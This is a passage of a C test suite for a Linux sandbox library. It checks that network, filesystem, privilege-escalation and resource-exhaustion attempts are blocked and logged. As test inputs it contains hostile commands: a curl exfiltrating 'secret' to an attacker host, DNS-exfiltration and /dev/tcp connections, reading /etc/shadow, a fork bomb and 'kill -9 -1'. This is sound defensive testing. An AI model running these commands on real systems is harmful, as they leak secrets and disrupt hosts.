/*
 * cs_test.c — exercises the CSandbox library directly, as the Swift shell
 * supervisor will: cs_policy_load, cs_spawn, cs_run with a notification
 * callback. Every check asserts an exact errno, signal, record or absence.
 *
 * usage: cs_test <policy> <rootfs (rendered)> <workspace> <bin dir with probe> [filter]
 * Run through tests/run-tests.sh, as root.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <grp.h>
#include <pthread.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include "csandbox.h"

static const char *policy_path, *rootfs, *workspace, *bindir, *filter;
static struct cs_policy *pol;
static int passed, failed;

/* ------------------------------------------------------------ harness */

struct run {
    int rc;                 /* cs_spawn result */
    char spawn_err[512];
    struct cs_child ch;
    struct cs_result r;
    char *out, *err;
    struct cs_event ev[128];
    int nev;
};

static void on_event(void *ctx, const struct cs_event *ev)
{
    struct run *R = ctx;
    if (R->nev < 128) R->ev[R->nev++] = *ev;
}

struct opts {
    int timeout_ms;
    struct cs_limits lim;
    int no_cgroup;
    size_t out_cap;
};

static struct cs_limits default_limits(void)
{
    struct cs_limits l = { .nofile = 1024, .fsize_bytes = 64L << 20, .cpu_seconds = 60,
                           .cgroup_pids_parent = "/sys/fs/cgroup/pids", .pids_max = 256,
                           .cgroup_memory_parent = "/sys/fs/cgroup/memory", .memory_max_bytes = 1L << 30 };
    return l;
}

static const char *envp[] = { "PATH=/opt/tests:/usr/local/bin:/usr/bin:/bin", "HOME=/home/alice", "USER=alice",
                              "LOGNAME=alice", "LANG=C.UTF-8", "TZ=UTC", NULL };

/* Run `sh -c cmd` in a fresh sandbox. */
static struct run *sbx_opts(const char *cmd, const struct opts *o)
{
    struct run *R = calloc(1, sizeof *R);
    size_t cap = o && o->out_cap ? o->out_cap : (1 << 20);
    R->out = calloc(1, cap + 1);
    R->err = calloc(1, (1 << 20) + 1);
    const char *argv[] = { "/bin/sh", "-c", cmd, NULL };
    struct cs_bind binds[] = { { "/etc/alternatives", "/etc/alternatives", 0 },
                               { "/etc/ld.so.cache", "/etc/ld.so.cache", 0 },
                               { bindir, "/opt/tests", 0 } };
    struct cs_config cfg = { .argv = argv, .envp = envp, .workspace = workspace, .home = "/home/alice",
                             .rootfs = rootfs, .binds = binds, .nbinds = 3, .uid = 1000, .gid = 1000,
                             .hostname = "ws-alice", .policy = pol };
    cfg.limits = o && (o->lim.nofile || o->no_cgroup) ? o->lim : default_limits();
    R->rc = cs_spawn(&cfg, &R->ch, R->spawn_err, sizeof R->spawn_err);
    if (R->rc != 0) return R;
    struct cs_run_opts ro = { .timeout_ms = o && o->timeout_ms ? o->timeout_ms : 20000,
                              .out = R->out, .out_cap = cap, .err = R->err, .err_cap = 1 << 20 };
    cs_run(&R->ch, pol, &ro, on_event, R, &R->r);
    return R;
}
static struct run *sbx(const char *cmd) { return sbx_opts(cmd, NULL); }

static void run_free(struct run *R) { free(R->out); free(R->err); free(R); }

static int check(int ok, const char *name, const struct run *R, const char *fmt, ...)
{
    if (ok) { passed++; printf("ok   %s\n", name); return 1; }
    failed++;
    printf("FAIL %s: ", name);
    va_list ap;
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    if (R) {
        printf("\n     spawn=%d %s exited=%d code=%d sig=%d timed_out=%d events=%d\n     stdout: %.900s\n     stderr: %.400s",
               R->rc, R->spawn_err, R->r.exited, R->r.exit_code, R->r.signal, R->r.timed_out, R->nev, R->out, R->err);
        for (int i = 0; i < R->nev && i < 6; i++) {
            char j[1024];
            cs_event_json(&R->ev[i], j, sizeof j);
            printf("\n     event: %s", j);
        }
    }
    printf("\n");
    return 0;
}

static int ran_ok(const struct run *R) { return R->rc == 0 && R->r.exited && R->r.exit_code == 0; }

/* The first event for syscall `name` not answered CONTINUE on a local socket. */
static const struct cs_event *find_event(const struct run *R, const char *name)
{
    for (int i = 0; i < R->nev; i++)
        if (strcmp(R->ev[i].syscall, name) == 0 && !(R->ev[i].sock_domain == AF_UNIX)) return &R->ev[i];
    return NULL;
}

/* The parent of a process, from /proc/<pid>/stat (field 4); -1 when gone. */
static int parent_of(int pid)
{
    char p[64], line[512] = "";
    snprintf(p, sizeof p, "/proc/%d/stat", pid);
    FILE *f = fopen(p, "r");
    if (!f) return -1;
    if (!fgets(line, sizeof line, f)) line[0] = 0;
    fclose(f);
    char *rp = strrchr(line, ')');
    int ppid = -1;
    if (!rp || sscanf(rp + 2, "%*c %d", &ppid) != 1) return -1;
    return ppid;
}

/* Live processes whose uid is 1000 and that descend from this test program
 * (its sandboxes' inits are its children, their commands theirs); zombies are
 * not counted. Counting every uid-1000 process of the host made life/threads
 * and life/supervisor-dies fail now and then on this shared machine: other
 * engineers' test suites run uid-1000 sandboxes of their own at the same time
 * (seen again: "48 of 48 ok, left=4" right after every sandbox had returned,
 * and no uid-1000 process a second later). Each process counted is printed,
 * so a real leak names itself. */
static int count_uid1000(void)
{
    DIR *d = opendir("/proc");
    int n = 0, self = (int)getpid();
    for (struct dirent *e; d && (e = readdir(d));) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char p[300], line[512] = "";
        snprintf(p, sizeof p, "/proc/%s/status", e->d_name);
        FILE *f = fopen(p, "r");
        int uid = -1, zombie = 0;
        while (f && fgets(line, sizeof line, f)) {
            if (strncmp(line, "Uid:", 4) == 0) uid = atoi(line + 5);
            if (strncmp(line, "State:", 6) == 0) zombie = strchr(line, 'Z') != NULL;
        }
        if (f) fclose(f);
        if (uid != 1000 || zombie) continue;
        int ours = 0, pid = atoi(e->d_name);
        for (int hop = 0, q = pid; hop < 64 && q > 1 && !ours; hop++) { q = parent_of(q); ours = q == self; }
        if (!ours) continue;
        printf("     (uid 1000, ours, still running: pid %d, parent %d)\n", pid, parent_of(pid));
        n++;
    }
    if (d) closedir(d);
    return n;
}

static int want(const char *name) { return !filter || strstr(name, filter); }
#define TEST(name) if (want(name))

/* Probe: run /opt/tests/probe <args> and expect "<case> rc=.. errno=<E>". */
static void probe_errno(const char *name, const char *args, const char *errno_name, const char *syscall_event)
{
    char cmd[256], expect[128];
    snprintf(cmd, sizeof cmd, "cd /home/alice && probe %s", args);
    struct run *R = sbx(cmd);
    char first[64];
    sscanf(args, "%63s", first);
    snprintf(expect, sizeof expect, "%s rc=-1 errno=%s\n", first, errno_name);
    int ok = ran_ok(R) && strstr(R->out, expect) != NULL;
    const struct cs_event *ev = syscall_event ? find_event(R, syscall_event) : NULL;
    if (syscall_event) ok = ok && ev && ev->decision == CS_DECIDE_DENY && ev->error != 0;
    check(ok, name, R, "expected '%s'%s%s", errno_name, syscall_event ? " and an event for " : "", syscall_event ? syscall_event : "");
    run_free(R);
}

/* ------------------------------------------------------------ canaries */

static int listen_tcp(int *port)
{
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t l = sizeof a;
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16) || getsockname(s, (struct sockaddr *)&a, &l)) return -1;
    *port = ntohs(a.sin_port);
    return s;
}

static int bind_udp(int *port)
{
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t l = sizeof a;
    if (bind(s, (struct sockaddr *)&a, sizeof a) || getsockname(s, (struct sockaddr *)&a, &l)) return -1;
    *port = ntohs(a.sin_port);
    return s;
}

/* ------------------------------------------------------------ tests */

static void test_policy(void)
{
    static const struct { const char *name, *text, *error; } bad[] = {
        { "policy/no-default", "allow read\n", "no `default` line" },
        { "policy/unknown-syscall", "default errno:ENOSYS\nallow readd\n", "t:2: unknown syscall `readd`" },
        { "policy/unknown-errno", "default errno:ENOSYS\nnotify:EWHATEVER ptrace\n", "t:2: unknown action" },
        { "policy/mix", "default errno:ENOSYS\nallow ioctl\nnotify:EPERM ioctl if a1 == TIOCSTI\n", "t:3: ioctl already has a rule on line 2" },
        { "policy/bad-cond", "default errno:ENOSYS\nallow clone if a7 == 0\n", "t:2: bad condition" },
        { "policy/two-syscalls-cond", "default errno:ENOSYS\nallow read write if a0 == 1\n", "names exactly one syscall" },
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        TEST(bad[i].name) {
            char err[256] = "";
            struct cs_policy *p = cs_policy_parse(bad[i].text, "t", err, sizeof err);
            char name[128];
            snprintf(name, sizeof name, "%s: refused with a precise message", bad[i].name);
            check(!p && strstr(err, bad[i].error), name, NULL, "got '%s'", err);
            cs_policy_free(p);
        }
    }
    TEST("policy/optional") {
        char err[256] = "";
        struct cs_policy *p = cs_policy_parse("default errno:ENOSYS\nallow read no_such_call_yet?\n", "t", err, sizeof err);
        check(p != NULL, "policy/optional: a `name?` unknown to libseccomp is skipped", NULL, "%s", err);
        cs_policy_free(p);
    }
}

static void test_ordinary(void)
{
    TEST("work/identity") {
        struct run *R = sbx("id; hostname; pwd; whoami");
        check(ran_ok(R) && strcmp(R->out, "uid=1000(alice) gid=1000(alice) groups=1000(alice)\nws-alice\n/home/alice\nalice\n") == 0,
              "work/identity: uid, hostname, cwd from the scenario", R, "unexpected identity");
        run_free(R);
    }
    TEST("work/pipes") {
        struct run *R = sbx("printf 'b\\na\\nc\\n' | sort | tr a-z A-Z | head -2; (sleep 0.1; echo bg) & wait; echo $(echo sub)");
        check(ran_ok(R) && strcmp(R->out, "A\nB\nbg\nsub\n") == 0, "work/pipes: pipes, subshells, background job within the call", R, "output");
        run_free(R);
    }
    TEST("work/env") {
        struct run *R = sbx("env | sort | grep -v '^PWD=\\|^SHLVL=\\|^_='");
        check(ran_ok(R) && strcmp(R->out, "HOME=/home/alice\nLANG=C.UTF-8\nLOGNAME=alice\nPATH=/opt/tests:/usr/local/bin:/usr/bin:/bin\nTZ=UTC\nUSER=alice\n") == 0,
              "work/env: environment is exactly the caller's", R, "environment differs");
        run_free(R);
    }
    TEST("work/home") {
        struct run *R = sbx("mkdir -p proj && echo data > proj/f.txt && touch 'héllo wörld ✓.txt' && cat proj/f.txt && ls | grep -c wörld");
        char host[512];
        snprintf(host, sizeof host, "%s/proj/f.txt", workspace);
        struct stat st;
        check(ran_ok(R) && strcmp(R->out, "data\n1\n") == 0 && stat(host, &st) == 0 && st.st_uid == 1000,
              "work/home: writes in home reach the workspace, UTF-8 names", R, "home write");
        run_free(R);
    }
    TEST("work/tools") {
        struct run *R = sbx("cd /tmp && printf 'x,1\\ny,2\\n' > a.csv && awk -F, '{s+=$2} END {print s}' a.csv && sed 's/x/z/' a.csv | head -1 "
                            "&& find /tmp -name '*.csv' | wc -l && tar cf t.tar a.csv && tar tf t.tar && grep -c , a.csv");
        check(ran_ok(R) && strcmp(R->out, "3\nz,1\n1\na.csv\n2\n") == 0, "work/tools: awk sed find tar grep in /tmp", R, "tools");
        run_free(R);
    }
    TEST("work/python") {
        struct run *R = sbx("python3 -c '\n"
            "import threading, subprocess, multiprocessing as mp, socket, os\n"
            "t = threading.Thread(target=lambda: None); t.start(); t.join()\n"
            "print(subprocess.run([\"echo\", \"sub\"], capture_output=True, text=True).stdout.strip())\n"
            "with mp.Pool(2) as p: print(sum(p.map(abs, [-1, -2, 3])))\n"
            "a, b = socket.socketpair(); a.send(b\"u\"); print(b.recv(1).decode())\n"
            "with mp.Manager() as m: d = m.dict(); d[1] = 2; print(d[1])\n'");
        check(ran_ok(R) && strcmp(R->out, "sub\n6\nu\n2\n") == 0, "work/python: threads, subprocess, multiprocessing Pool + Manager (unix sockets)", R, "python");
        run_free(R);
    }
    TEST("work/git") {
        struct run *R = sbx("rm -rf repo && git init -q repo && cd repo && echo x > f && git add f && "
                            "git -c user.name=A -c user.email=a@example.com commit -qm init && git log --oneline | wc -l");
        check(ran_ok(R) && strcmp(R->out, "1\n") == 0, "work/git: init, add, commit", R, "git");
        run_free(R);
    }
    TEST("work/sqlite") {
        struct run *R = sbx("rm -f t.db && sqlite3 t.db 'create table t(x); insert into t values (41),(1); select sum(x) from t;'");
        check(ran_ok(R) && strcmp(R->out, "42\n") == 0, "work/sqlite: sqlite3 in home", R, "sqlite");
        run_free(R);
    }
    TEST("work/cc") {
        struct run *R = sbx("cd /tmp && printf '#include <stdio.h>\\nint main(void){puts(\"built\");return 0;}\\n' > h.c && cc -o h h.c && ./h");
        check(ran_ok(R) && strcmp(R->out, "built\n") == 0, "work/cc: compile and run in /tmp", R, "cc");
        run_free(R);
    }
    TEST("work/unix-local") {  /* AF_UNIX bind+connect inside: allowed, recorded as continue */
        struct run *R = sbx("python3 -c '\nimport socket\ns = socket.socket(socket.AF_UNIX); s.bind(\"/tmp/s\"); s.listen()\n"
                            "c = socket.socket(socket.AF_UNIX); c.connect(\"/tmp/s\"); print(\"unix ok\")'");
        check(ran_ok(R) && strcmp(R->out, "unix ok\n") == 0, "work/unix-local: AF_UNIX bind/connect keep working", R, "unix");
        run_free(R);
    }
    TEST("work/output-cap") {
        struct opts o = { .out_cap = 1 << 20 };
        struct run *R = sbx_opts("head -c 50000000 /dev/zero", &o);
        check(ran_ok(R) && R->r.out_len == 1 << 20 && R->r.out_total == 50000000,
              "work/output-cap: 50 MB flood kept to the cap, total counted (truncation is visible)", R, "out_len=%zu total=%zu", R->r.out_len, R->r.out_total);
        run_free(R);
    }
}

static void test_network(void)
{
    TEST("net/tcp-canary") {
        int port = 0, ls = listen_tcp(&port);
        char cmd[128];
        snprintf(cmd, sizeof cmd, "probe connect4 %d", port);
        struct run *R = sbx(cmd);
        const struct cs_event *ev = find_event(R, "connect");
        int accepted = accept(ls, NULL, NULL);
        int ok = ran_ok(R) && strstr(R->out, "connect4 rc=-1 errno=ENETUNREACH\n") && ev && ev->family == AF_INET &&
                 strcmp(ev->addr, "127.0.0.1") == 0 && ev->port == port && ev->decision == CS_DECIDE_DENY &&
                 ev->error == ENETUNREACH && ev->sock_domain == AF_INET && accepted < 0 && errno == EAGAIN;
        check(ok, "net/tcp-canary: connect 127.0.0.1:<canary> -> ENETUNREACH, recorded AF_INET/127.0.0.1/port, canary got nothing", R, "port %d accepted=%d", port, accepted);
        if (accepted >= 0) close(accepted);
        close(ls);
        run_free(R);
    }
    TEST("net/socket-record") {
        struct run *R = sbx("probe connect4 443 1.2.3.4");
        const struct cs_event *s = find_event(R, "socket"), *c = find_event(R, "connect");
        check(ran_ok(R) && s && s->family == AF_INET && s->sock_type == SOCK_STREAM && s->decision == CS_DECIDE_CONTINUE &&
              c && strcmp(c->addr, "1.2.3.4") == 0 && c->port == 443,
              "net/socket-record: socket(AF_INET, SOCK_STREAM) recorded, then connect 1.2.3.4:443 recorded", R, "records");
        run_free(R);
    }
    TEST("net/udp-canary") {
        int port = 0, us = bind_udp(&port);
        char cmd[160];
        snprintf(cmd, sizeof cmd, "probe udp %d; probe udpmsg %d", port, port);
        struct run *R = sbx(cmd);
        const struct cs_event *e1 = find_event(R, "sendto"), *e2 = find_event(R, "sendmsg");
        char buf[16];
        ssize_t got = recv(us, buf, sizeof buf, MSG_DONTWAIT);
        check(ran_ok(R) && strstr(R->out, "udp rc=-1 errno=ENETUNREACH\nudpmsg rc=-1 errno=ENETUNREACH\n") && e1 && e1->port == port &&
              e2 && e2->port == port && strcmp(e2->addr, "127.0.0.1") == 0 && got < 0,
              "net/udp-canary: UDP sendto and sendmsg -> ENETUNREACH, both recorded with port, canary got nothing", R, "got=%zd", got);
        close(us);
        run_free(R);
    }
    TEST("net/dns-exfil") {
        struct run *R = sbx("probe dns");
        const struct cs_event *e = find_event(R, "sendto");
        check(ran_ok(R) && strstr(R->out, "dns rc=-1 errno=ENETUNREACH") && e && strcmp(e->addr, "10.0.0.2") == 0 && e->port == 53 &&
              strcmp(e->detail, "dns_query=secret.exfil.example") == 0,
              "net/dns-exfil: UDP/53 query recorded with its name", R, "dns");
        run_free(R);
    }
    TEST("net/tools") {  /* bash /dev/tcp, wget, ssh: each fails and each destination is recorded */
        int port = 0, ls = listen_tcp(&port);
        char cmd[400];
        snprintf(cmd, sizeof cmd, "bash -c 'echo x > /dev/tcp/127.0.0.1/%d'; echo bash=$?; wget -q -T 3 -t 1 http://10.20.30.40:8080/; echo wget=$?; "
                 "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p 2222 10.9.8.7 true 2>/dev/null; echo ssh=$?", port);
        struct run *R = sbx(cmd);
        int seen[3] = { 0, 0, 0 };
        for (int i = 0; i < R->nev; i++) {
            const struct cs_event *e = &R->ev[i];
            if (strcmp(e->syscall, "connect") || e->decision != CS_DECIDE_DENY || e->error != ENETUNREACH) continue;
            seen[0] |= strcmp(e->addr, "127.0.0.1") == 0 && e->port == port;
            seen[1] |= strcmp(e->addr, "10.20.30.40") == 0 && e->port == 8080;
            seen[2] |= strcmp(e->addr, "10.9.8.7") == 0 && e->port == 2222;
        }
        int accepted = accept(ls, NULL, NULL);
        check(R->rc == 0 && strstr(R->out, "bash=1\nwget=4\nssh=255\n") && strstr(R->err, "/dev/tcp/127.0.0.1/") &&
              strstr(R->err, "Network is unreachable") && seen[0] && seen[1] && seen[2] && accepted < 0,
              "net/tools: bash /dev/tcp to the canary, wget, ssh all fail; all three destinations recorded; canary untouched", R,
              "seen %d%d%d accepted=%d", seen[0], seen[1], seen[2], accepted);
        close(ls);
        run_free(R);
    }
    TEST("net/netlink") {
        struct run *R = sbx("ip -o link | awk '{print $2, $9}'; ip link set lo up; echo rc=$?");
        check(R->rc == 0 && strcmp(R->out, "lo: DOWN\nrc=2\n") == 0 && strstr(R->err, "Operation not permitted"),
              "net/netlink: only lo (down) exists; changing it via netlink -> EPERM", R, "netlink");
        run_free(R);
    }
    TEST("net/dns-name") {  /* curl to a name: glibc's resolver connect()s UDP, then sendmmsg's the query */
        struct run *R = sbx("curl -sS -m 5 'http://files.attacker.example/up?d=secret'; echo rc=$?");
        const struct cs_event *c = find_event(R, "connect"), *q = find_event(R, "sendmmsg");
        check(R->rc == 0 && strstr(R->out, "rc=6\n") && strstr(R->err, "Could not resolve host: files.attacker.example") &&
              c && c->decision == CS_DECIDE_FAKE && strcmp(c->addr, "10.0.0.2") == 0 && c->port == 53 &&
              q && strcmp(q->detail, "dns_query=files.attacker.example") == 0 && q->decision == CS_DECIDE_DENY && q->error == ENETUNREACH,
              "net/dns-name: curl to a name fails (rc 6); the looked-up name is recorded (UDP connect faked, query denied)", R, "dns name");
        run_free(R);
    }
    TEST("net/ipv6") {
        struct run *R = sbx("probe connect6 22");
        const struct cs_event *e = find_event(R, "connect");
        check(ran_ok(R) && strstr(R->out, "connect6 rc=-1 errno=ENETUNREACH") && e && e->family == AF_INET6 && strcmp(e->addr, "::1") == 0 && e->port == 22,
              "net/ipv6: connect [::1]:22 -> ENETUNREACH, recorded", R, "v6");
        run_free(R);
    }
    TEST("net/bind") probe_errno("net/bind: bind 0.0.0.0:8080 -> EACCES, recorded", "bind4 8080", "EACCES", "bind");
    TEST("net/packet") probe_errno("net/packet: socket(AF_PACKET) -> EPERM, recorded", "packet", "EPERM", "socket");
    TEST("net/vsock") probe_errno("net/vsock: socket(AF_VSOCK) -> EAFNOSUPPORT, recorded", "vsock", "EAFNOSUPPORT", "socket");
    TEST("net/alg") probe_errno("net/alg: socket(AF_ALG) -> EAFNOSUPPORT, recorded", "alg", "EAFNOSUPPORT", "socket");
    TEST("net/raw") probe_errno("net/raw: socket(AF_INET, SOCK_RAW) -> EPERM from the kernel (no CAP_NET_RAW)", "rawinet", "EPERM", NULL);
    TEST("net/curl") {
        struct run *R = sbx("curl -sS -m 5 http://93.184.216.34:80/ ; echo rc=$?");
        const struct cs_event *e = find_event(R, "connect");
        check(R->rc == 0 && strstr(R->out, "rc=7\n") && e && strcmp(e->addr, "93.184.216.34") == 0 && e->port == 80,
              "net/curl: curl to an IP fails (rc 7) and the destination is recorded", R, "curl");
        run_free(R);
    }
}

static void test_filesystem(void)
{
    TEST("fs/etc-readonly") {
        struct run *R = sbx("echo x > /etc/passwd; echo x > /newfile; echo x > /usr/x; mkdir /etc/d; true");
        check(R->rc == 0 && strstr(R->err, "cannot create /etc/passwd: Read-only file system") &&
              strstr(R->err, "cannot create /newfile: Read-only file system") && strstr(R->err, "cannot create /usr/x: Read-only file system") &&
              strstr(R->err, "mkdir: cannot create directory") && strstr(R->err, "/etc/d\xe2\x80\x99: Read-only file system"),
              "fs/etc-readonly: writes to /etc, / and /usr fail with EROFS", R, "EROFS expected");
        run_free(R);
    }
    TEST("fs/host-secrets") {
        struct run *R = sbx("cat /etc/shadow; ls /root; ls /work; ls /sys; ls /home; grep -c . /etc/passwd");
        check(R->rc == 0 && strstr(R->err, "cat: /etc/shadow: No such file or directory") && strstr(R->err, "ls: cannot access '/root': No such file or directory") &&
              strstr(R->err, "ls: cannot access '/sys': No such file or directory") && strstr(R->err, "ls: cannot access '/work': No such file or directory") &&
              strcmp(R->out, "alice\n10\n") == 0,
              "fs/host-secrets: /etc/shadow, /root, /sys, /work absent; /etc/passwd is the scenario's", R, "host visible");
        run_free(R);
    }
    TEST("fs/links") {
        struct run *R = sbx("rm -f l h; ln -s /etc/passwd l; echo x >> l; ln /etc/passwd h; ln -s /proc/1/root r; ls r/; true");
        check(R->rc == 0 && strstr(R->err, "cannot create l: Permission denied") && strstr(R->err, "Invalid cross-device link") &&
              strstr(R->err, "cannot access 'r/': Permission denied"),
              "fs/links: append through a symlink to /etc/passwd -> EACCES, hardlink -> EXDEV, /proc/1/root -> EACCES", R, "links");
        run_free(R);
    }
    TEST("fs/proc") {
        struct run *R = sbx("echo /proc/[0-9]*; cat /proc/1/cmdline | od -An -c | tr -s ' '; echo 1 > /proc/sys/vm/drop_caches; ls /dev | tr '\\n' ' '");
        check(R->rc == 0 && strcmp(R->out, "/proc/1 /proc/2\n / s b i n / i n i t \\0\nfd full null random shm stderr stdin stdout urandom zero ") == 0 &&
              strstr(R->err, "/proc/sys/vm/drop_caches: Read-only file system"),
              "fs/proc: own pids only, init shows /sbin/init, kernel knobs read-only, minimal /dev", R, "proc");
        run_free(R);
    }
    TEST("fs/landlock") {  /* /proc is a writable mount; only Landlock refuses writing our own comm */
        struct run *R = sbx("echo evil > /proc/self/comm; echo rc=$?");
        check(R->rc == 0 && strstr(R->err, "Permission denied") && strstr(R->out, "rc=2"),
              "fs/landlock: write to /proc/self/comm (allowed by DAC) -> EACCES from Landlock", R, "landlock");
        run_free(R);
    }
    TEST("fs/init-protected") probe_errno("fs/init-protected: /proc/1/environ of init -> EACCES (not dumpable)", "environ1", "EACCES", NULL);
    TEST("fs/mknod") probe_errno("fs/mknod: mknod of a char device -> EPERM (no CAP_MKNOD)", "mknod", "EPERM", NULL);
    TEST("fs/mkfifo") {
        struct run *R = sbx("cd /tmp && probe mkfifo");
        check(ran_ok(R) && strstr(R->out, "mkfifo rc=0 errno=0"), "fs/mkfifo: FIFOs still work", R, "mkfifo");
        run_free(R);
    }
}

static void test_privilege(void)
{
    TEST("priv/unshare") probe_errno("priv/unshare: unshare(CLONE_NEWUSER) -> EPERM, recorded", "unshare", "EPERM", "unshare");
    TEST("priv/clone-ns") probe_errno("priv/clone-ns: clone(CLONE_NEWNET) -> EPERM, recorded", "clonens", "EPERM", "clone");
    TEST("priv/clone3") probe_errno("priv/clone3: clone3 -> ENOSYS (libc falls back)", "clone3", "ENOSYS", NULL);
    TEST("priv/setns") probe_errno("priv/setns: setns -> EPERM, recorded", "setns", "EPERM", "setns");
    TEST("priv/ptrace") probe_errno("priv/ptrace: ptrace(TRACEME) -> EPERM, recorded", "ptrace", "EPERM", "ptrace");
    TEST("priv/vmread") probe_errno("priv/vmread: process_vm_readv -> EPERM, recorded", "vmread", "EPERM", "process_vm_readv");
    TEST("priv/bpf") probe_errno("priv/bpf: bpf -> EPERM, recorded", "bpf", "EPERM", "bpf");
    TEST("priv/io_uring") probe_errno("priv/io_uring: io_uring_setup -> EPERM, recorded", "io_uring", "EPERM", "io_uring_setup");
    TEST("priv/keyctl") probe_errno("priv/keyctl: keyctl -> EPERM, recorded", "keyctl", "EPERM", "keyctl");
    TEST("priv/add_key") probe_errno("priv/add_key: add_key -> EPERM, recorded", "add_key", "EPERM", "add_key");
    TEST("priv/perf") probe_errno("priv/perf: perf_event_open -> EACCES, recorded", "perf", "EACCES", "perf_event_open");
    TEST("priv/userfaultfd") probe_errno("priv/userfaultfd: userfaultfd -> EPERM, recorded", "userfaultfd", "EPERM", "userfaultfd");
    TEST("priv/mount") probe_errno("priv/mount: mount -> EPERM, recorded", "mount", "EPERM", "mount");
    TEST("priv/personality") probe_errno("priv/personality: personality(ADDR_NO_RANDOMIZE) -> EPERM, recorded", "personality", "EPERM", "personality");
    TEST("priv/tiocsti") probe_errno("priv/tiocsti: ioctl TIOCSTI -> EPERM, recorded", "tiocsti", "EPERM", "ioctl");
    TEST("priv/tiocsti-high") probe_errno("priv/tiocsti-high: TIOCSTI with high bits set -> EPERM, recorded", "tiocsti_high", "EPERM", "ioctl");
    TEST("priv/tioclinux") probe_errno("priv/tioclinux: ioctl TIOCLINUX -> EPERM, recorded", "tioclinux", "EPERM", "ioctl");
    TEST("priv/unknown") probe_errno("priv/unknown: an unknown syscall number -> ENOSYS", "unknown", "ENOSYS", NULL);
    TEST("priv/setuid") probe_errno("priv/setuid: setuid(0) -> EPERM (no capabilities)", "setuid0", "EPERM", NULL);
    TEST("priv/listener") {
        struct run *R = sbx("probe second_listener");
        check(ran_ok(R) && strstr(R->out, "second_listener rc=-1 errno=EBUSY"), "priv/listener: a second notify listener -> EBUSY", R, "listener");
        run_free(R);
    }
    TEST("priv/caps") {
        struct run *R = sbx("grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status | tr -s '\\t' ' '");
        check(ran_ok(R) && strcmp(R->out, "CapInh: 0000000000000000\nCapPrm: 0000000000000000\nCapEff: 0000000000000000\n"
              "CapBnd: 0000000000000000\nCapAmb: 0000000000000000\nNoNewPrivs: 1\nSeccomp: 2\n") == 0,
              "priv/caps: every capability set empty (bounding too), no_new_privs, seccomp filter", R, "caps");
        run_free(R);
    }
    TEST("priv/x32") {
        struct run *R = sbx("probe x32");
        check(R->rc == 0 && R->r.exited && R->r.exit_code == 128 + SIGSYS && strcmp(R->out, "x32 start\n") == 0,
              "priv/x32: an x32 syscall kills the process with SIGSYS", R, "x32");
        run_free(R);
    }
    TEST("priv/i386") {
        struct run *R = sbx("exec probe i386");
        check(R->rc == 0 && R->r.signaled && R->r.signal == SIGSYS && strcmp(R->out, "i386 start\n") == 0,
              "priv/i386: int 0x80 kills the process with SIGSYS (seen directly as the command's signal)", R, "i386");
        run_free(R);
    }
    TEST("priv/kill-all") {
        pid_t canary = fork();
        if (canary == 0) { execl("/bin/sleep", "sleep", "30", (char *)NULL); _exit(1); }
        struct run *R = sbx("sleep 5 & kill -9 -1; echo survived");
        int alive = kill(canary, 0) == 0;
        check(ran_ok(R) && alive && strstr(R->out, "survived"), "priv/kill-all: kill -9 -1 reaches only the sandbox", R, "canary alive=%d", alive);
        kill(canary, SIGKILL);
        waitpid(canary, NULL, 0);
        run_free(R);
    }
}

static void test_resources(void)
{
    TEST("res/timeout") {
        struct opts o = { .timeout_ms = 500 };
        struct run *R = sbx_opts("sleep 1000 & sleep 1000", &o);
        int left = count_uid1000();
        check(R->rc == 0 && R->r.timed_out && R->r.killed && R->r.signal == SIGKILL && R->r.wall_ms < 1500 && left == 0,
              "res/timeout: sleep 1000 killed at the wall-clock limit, nothing left running", R, "wall=%.0fms left=%d", R->r.wall_ms, left);
        run_free(R);
    }
    TEST("res/daemon") {
        struct run *R = sbx("setsid nohup sleep 300 >/dev/null 2>&1 & echo started");
        usleep(20000);
        int left = count_uid1000();
        check(ran_ok(R) && strcmp(R->out, "started\n") == 0 && left == 0, "res/daemon: setsid nohup daemon dies when the call returns", R, "left=%d", left);
        run_free(R);
    }
    TEST("res/forkbomb") {
        struct opts o = { .timeout_ms = 3000, .lim = default_limits() };
        o.lim.pids_max = 64;
        struct run *R = sbx_opts("python3 -c '\nimport os\nwhile True:\n  try: os.fork()\n  except OSError: pass'", &o);
        int left = count_uid1000();
        check(R->rc == 0 && R->r.timed_out && R->r.pids_max_events > 0 && left == 0,
              "res/forkbomb: stopped by pids.max=64, killed at the timeout, nothing left", R, "pids events=%ld left=%d", R->r.pids_max_events, left);
        run_free(R);
    }
    TEST("res/memory") {
        struct opts o = { .timeout_ms = 10000, .lim = default_limits() };
        o.lim.memory_max_bytes = 64L << 20;
        struct run *R = sbx_opts("python3 -c 'x = bytearray(256 << 20); x[::4096] = b\"x\" * len(x[::4096]); print(\"allocated\")'", &o);
        check(R->rc == 0 && R->r.exited && R->r.exit_code == 128 + SIGKILL && R->r.oom_kills >= 1 && !strstr(R->out, "allocated"),
              "res/memory: 256 MiB touched under memory limit 64 MiB -> OOM kill", R, "oom_kills=%ld", R->r.oom_kills);
        run_free(R);
    }
    TEST("res/fsize") {
        struct opts o = { .lim = default_limits() };
        o.lim.fsize_bytes = 8L << 20;
        struct run *R = sbx_opts("head -c 20000000 /dev/zero > big; echo rc=$?; wc -c < big; rm -f big", &o);
        check(R->rc == 0 && strstr(R->out, "rc=153\n8388608\n"), "res/fsize: a 20 MB file stops at RLIMIT_FSIZE=8 MiB (SIGXFSZ)", R, "fsize");
        run_free(R);
    }
